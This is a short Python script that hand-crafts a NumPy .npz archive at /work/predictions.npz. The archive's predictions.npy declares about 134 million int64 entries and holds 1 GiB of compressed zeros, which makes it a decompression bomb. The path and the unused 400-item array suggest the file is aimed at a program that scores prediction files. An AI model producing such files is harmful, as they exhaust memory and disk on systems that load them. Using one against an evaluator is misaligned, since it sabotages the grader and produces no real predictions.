"""An .npz is a zip, with all of a zip's tricks."""
import struct
import zipfile

import numpy as np

COUNT = 400


def block(header, data=b"", version=(1, 0)):
    text = header.encode("latin-1")
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + data


def put(*entries):
    with zipfile.ZipFile("/work/predictions.npz", "w") as archive:
        for name, data in entries:
            archive.writestr(name, data)


data = np.zeros(COUNT, "<i8").tobytes()
with zipfile.ZipFile("/work/predictions.npz", "w", zipfile.ZIP_DEFLATED) as archive:
    with archive.open("predictions.npy", "w", force_zip64=True) as file:
        file.write(block("{'descr': '<i8', 'fortran_order': False, 'shape': (134217728,), }\n"))
        for _ in range(1024):
            file.write(bytes(1 << 20))
